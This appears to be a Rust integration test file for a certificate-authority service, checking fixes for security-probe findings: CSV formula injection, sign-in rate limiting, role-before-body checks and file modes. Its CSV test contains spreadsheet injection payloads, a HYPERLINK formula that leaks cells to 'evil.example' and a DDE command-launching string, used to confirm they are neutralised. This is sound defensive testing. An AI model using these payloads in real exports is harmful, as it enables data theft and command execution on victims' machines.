//! The security probe's findings beyond query input: CSV injection through request ids and
//! thing names, the audit flood of failed sign-ins, server-side dashboard sessions, the role
//! checked before the body, and the smaller items (two Authorization headers, station names
//! from certificates, file modes).

use crate::common::*;
use crate::on_both_backends;
use reqwest::StatusCode;

on_both_backends!(
    exported_cells_never_start_a_formula,
    failed_sign_ins_are_limited_and_their_audit_records_collapsed,
    admin_aws_routes_check_the_role_before_the_body,
    two_authorization_headers_are_refused,
    viewers_cannot_take_the_connections_of_issuance,
);

/// The CSV export's rows as fields (quotes handled; no field here spans lines).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    text.split("\r\n")
        .filter(|line| !line.is_empty())
        .map(|line| {
            let mut fields = Vec::new();
            let mut field = String::new();
            let mut quoted = false;
            let mut chars = line.chars().peekable();
            while let Some(c) = chars.next() {
                match c {
                    '"' if quoted && chars.peek() == Some(&'"') => {
                        field.push('"');
                        chars.next();
                    }
                    '"' => quoted = !quoted,
                    ',' if !quoted => fields.push(std::mem::take(&mut field)),
                    c => field.push(c),
                }
            }
            fields.push(field);
            fields
        })
        .collect()
}

async fn exported_cells_never_start_a_formula(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let payload = r#"=HYPERLINK("http://evil.example/?leak="&B2&L2,"Open")"#;
    let response = app
        .client
        .post(app.url("/v1/certificates"))
        .bearer_auth(&app.station)
        .header("x-request-id", payload)
        .json(&serde_json::json!({ "csr": csr("-cmd:1", "JP").pem }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);
    // The formula is not kept as the request id: a UUID replaces it.
    let id = response.headers()["x-request-id"]
        .to_str()
        .unwrap()
        .to_owned();
    assert_ne!(id, payload);
    assert!(uuid::Uuid::parse_str(&id).is_ok(), "{id}");
    let dde = app
        .client
        .post(app.url("/v1/certificates"))
        .bearer_auth(&app.station)
        .header("x-request-id", "@SUM(1+1)*cmd|' /C calc'!A0")
        .json(&serde_json::json!({ "csr": csr("line-b-1", "JP").pem }))
        .send()
        .await
        .unwrap();
    assert_eq!(dde.status(), StatusCode::CREATED);
    assert!(uuid::Uuid::parse_str(dde.headers()["x-request-id"].to_str().unwrap()).is_ok());

    // A row stored before the rule (or by hand) is neutralised in the export.
    app.execute_sql(
        "UPDATE issued_certificates SET request_id = '+cmd' WHERE thing_name = 'line-b-1'",
    )
    .await;
    let response = app
        .get(&app.viewer, "/v1/certificates/export.csv?sort=asc")
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let rows = csv_rows(&response.text().await.unwrap());
    assert_eq!(rows.len(), 3);
    for row in &rows[1..] {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet evaluates: {cell:?} in {row:?}"
            );
        }
    }
    let column = |name: &str| rows[0].iter().position(|c| c == name).unwrap();
    assert_eq!(rows[1][column("thing_name")], "'-cmd:1");
    assert_eq!(rows[1][column("request_id")], id);
    assert_eq!(rows[2][column("request_id")], "'+cmd");
}

async fn sign_in_as(app: &TestApp, token: &str, request_id: &str) -> reqwest::Response {
    app.client
        .post(app.url("/v1/session"))
        .header("x-request-id", request_id)
        .json(&serde_json::json!({ "token": token }))
        .send()
        .await
        .unwrap()
}

async fn failed_sign_ins_are_limited_and_their_audit_records_collapsed(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    // A station token, over and over: ten refusals (403), then 429 with Retry-After, before
    // any lookup; one audit record, under the service's own request id.
    let mut statuses = Vec::new();
    for i in 0..40 {
        let response = sign_in_as(&app, &app.station, &format!("flood-{i}")).await;
        let status = response.status();
        if status == StatusCode::TOO_MANY_REQUESTS {
            let wait: u64 = response.headers()["retry-after"]
                .to_str()
                .unwrap()
                .parse()
                .unwrap();
            assert!((1..=60).contains(&wait), "{wait}");
            assert_eq!(json(response).await["code"], "rate_limited");
        }
        statuses.push(status.as_u16());
    }
    assert_eq!(statuses[..10], [403; 10]);
    assert!(statuses[10..].iter().all(|&s| s == 429), "{statuses:?}");
    let audit = json(
        app.get(
            &app.admin,
            "/v1/admin/audit?action=session.create&limit=1000",
        )
        .await,
    )
    .await;
    let items = audit["items"].as_array().unwrap();
    assert_eq!(items.len(), 1, "{audit}");
    assert_eq!(items[0]["actor"], "station-1");
    assert_eq!(items[0]["outcome"], "failure");
    let audited_id = items[0]["request_id"].as_str().unwrap();
    assert!(!audited_id.starts_with("flood-"), "{audited_id}");
    assert!(uuid::Uuid::parse_str(audited_id).is_ok());

    // The limit is the token's: the viewer still signs in from the same address.
    assert_eq!(
        sign_in_as(&app, &app.viewer, "v-1").await.status(),
        StatusCode::NO_CONTENT
    );
    // Unknown tokens from one address: 30 failures (10 already counted), then the address is
    // refused whatever token it brings. None of them is audited (no actor).
    for i in 0..20 {
        let unknown = format!("fca_{:A>43}", i);
        let status = sign_in_as(&app, &unknown, "u").await.status();
        assert_eq!(status, StatusCode::UNAUTHORIZED, "attempt {i}");
    }
    let viewer = sign_in_as(&app, &app.viewer, "v-2").await;
    assert_eq!(viewer.status(), StatusCode::TOO_MANY_REQUESTS);
    let audit = json(
        app.get(
            &app.admin,
            "/v1/admin/audit?action=session.create&outcome=failure",
        )
        .await,
    )
    .await;
    assert_eq!(audit["items"].as_array().unwrap().len(), 1);
    // The API itself is not limited by the sign-in rule.
    assert_eq!(
        app.get(&app.viewer, "/v1/certificates").await.status(),
        StatusCode::OK
    );
}

async fn admin_aws_routes_check_the_role_before_the_body(backend: Backend) {
    let fake = std::sync::Arc::new(factory_ca::aws::fake::FakeIotRegistry::new());
    let app = TestApp::spawn_with_iot(backend, fake, |_| {}).await;
    let id = json(app.get(&app.admin, "/v1/ca").await).await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let routes = [
        (
            reqwest::Method::POST,
            format!("/v1/admin/cas/{id}/aws/register"),
        ),
        (
            reqwest::Method::PUT,
            format!("/v1/admin/cas/{id}/aws/template"),
        ),
        (
            reqwest::Method::POST,
            format!("/v1/admin/cas/{id}/aws/template/preview"),
        ),
        (reqwest::Method::PATCH, format!("/v1/admin/cas/{id}/aws")),
    ];
    // Bodies that would each be a 400 or 422 naming fields, for an admin.
    let bodies = [
        serde_json::json!({}),
        serde_json::json!({"mode": "nonsense", "extra": 1}),
        serde_json::json!("not an object"),
    ];
    for (method, path) in &routes {
        for body in &bodies {
            for (token, expected) in [
                (Some(&app.viewer), StatusCode::FORBIDDEN),
                (Some(&app.station), StatusCode::FORBIDDEN),
                (None, StatusCode::UNAUTHORIZED),
            ] {
                let mut request = app.client.request(method.clone(), app.url(path)).json(body);
                if let Some(token) = token {
                    request = request.bearer_auth(token);
                }
                let response = request.send().await.unwrap();
                let status = response.status();
                let problem = json(response).await;
                assert_eq!(status, expected, "{method} {path} {body}: {problem}");
                assert!(
                    !problem["detail"].as_str().unwrap().contains("field"),
                    "{problem}"
                );
            }
        }
        // Without a JSON content type at all: still the role first.
        let response = app
            .client
            .request(method.clone(), app.url(path))
            .bearer_auth(&app.viewer)
            .body("x")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{method} {path}");
    }
    // Nothing was registered.
    let state = json(
        app.get(&app.admin, &format!("/v1/admin/cas/{id}/aws"))
            .await,
    )
    .await;
    assert!(state["stored"].is_null(), "{state}");
}

async fn two_authorization_headers_are_refused(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    for (first, second) in [
        (&app.viewer, &app.admin),
        (&app.admin, &app.viewer),
        (&app.admin, &app.admin),
    ] {
        let response = app
            .client
            .get(app.url("/v1/admin/tokens"))
            .header("authorization", format!("Bearer {first}"))
            .header("authorization", format!("Bearer {second}"))
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
        let body = json(response).await;
        assert_eq!(body["code"], "unauthorized");
        assert!(
            body["detail"].as_str().unwrap().contains("exactly one"),
            "{body}"
        );
    }
    // No HSTS over plain HTTP (the header is for HTTPS only).
    let response = app.get(&app.viewer, "/v1/ca").await;
    assert!(
        response
            .headers()
            .get("strict-transport-security")
            .is_none()
    );
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sqlite_data_dir_and_database_files_are_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let app = TestApp::spawn(Backend::Sqlite).await;
    let response = app.sign(&csr("perm-1", "JP").pem).await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let data = app.settings.data_dir.clone();
    let mode = |path: &std::path::Path| {
        std::fs::metadata(path)
            .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
            .permissions()
            .mode()
            & 0o777
    };
    assert_eq!(mode(&data), 0o700);
    let mut files = 0;
    for name in ["factory-ca.db", "factory-ca.db-wal", "factory-ca.db-shm"] {
        let path = data.join(name);
        if path.exists() {
            assert_eq!(mode(&path), 0o600, "{name}");
            files += 1;
        }
    }
    assert!(
        files >= 2,
        "the database and its WAL exist while the service runs"
    );

    // A store made before this rule (group- and world-readable) is tightened at the next start.
    let db = data.join("factory-ca.db");
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o755)).unwrap();
    let app = app.restart().await;
    assert_eq!(mode(&db), 0o600);
    assert_eq!(mode(&data), 0o700);
    assert_eq!(
        app.get(&app.viewer, "/v1/certificates").await.status(),
        StatusCode::OK
    );
}

/// Holds one connection of `store`'s pool until dropped.
async fn hold_connection(store: &factory_ca::store::Store) -> Box<dyn std::any::Any + Send> {
    use factory_ca::store::Store;
    match store {
        Store::Postgres(pool) => Box::new(pool.acquire().await.unwrap()),
        Store::Sqlite(pool) => Box::new(pool.acquire().await.unwrap()),
    }
}

async fn viewers_cannot_take_the_connections_of_issuance(backend: Backend) {
    let app = TestApp::spawn_with(backend, |s| {
        s.database.max_connections = 4;
        s.database.connect_timeout_secs = std::time::Duration::from_secs(1);
    })
    .await;
    // Every connection of the dashboard's pool busy, as under many slow viewer queries.
    let reads = factory_ca::store::reads::read_connections(&app.settings);
    let mut held = Vec::new();
    for _ in 0..reads {
        held.push(hold_connection(&app.reads).await);
    }
    // Issuance does not notice.
    for i in 0..5 {
        let started = std::time::Instant::now();
        let response = app.sign(&csr(&format!("starve-{i}"), "JP").pem).await;
        assert_eq!(response.status(), StatusCode::CREATED);
        assert!(
            started.elapsed() < std::time::Duration::from_millis(900),
            "issuance took {:?} while the read pool was busy",
            started.elapsed()
        );
    }
    // A viewer read waits for its own pool, and is answered 503 after the acquire timeout.
    let started = std::time::Instant::now();
    let list = app.get(&app.viewer, "/v1/certificates").await;
    assert_eq!(list.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(json(list).await["code"], "store_unavailable");
    assert!(started.elapsed() >= std::time::Duration::from_millis(900));
    drop(held);
    let list = json(app.get(&app.viewer, "/v1/certificates").await).await;
    assert_eq!(list["items"].as_array().unwrap().len(), 5);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn postgresql_cancels_a_dashboard_statement_past_its_timeout() {
    let app = TestApp::spawn_with(Backend::Postgres, |s| {
        s.server.request_timeout_secs = std::time::Duration::from_secs(1);
    })
    .await;
    let factory_ca::store::Store::Postgres(pool) = &app.reads else {
        unreachable!()
    };
    let started = std::time::Instant::now();
    let error = sqlx::query("SELECT pg_sleep(5)")
        .execute(pool)
        .await
        .unwrap_err();
    let elapsed = started.elapsed();
    let code = error.as_database_error().and_then(|e| e.code()).unwrap();
    assert_eq!(code, "57014", "query_canceled: {error}");
    assert!(elapsed < std::time::Duration::from_secs(3), "{elapsed:?}");
    // The issuance pool has no such limit (its statements are the ledger's own).
    let factory_ca::store::Store::Postgres(main) = &app.store else {
        unreachable!()
    };
    sqlx::query("SELECT pg_sleep(1.2)")
        .execute(main)
        .await
        .unwrap();
}
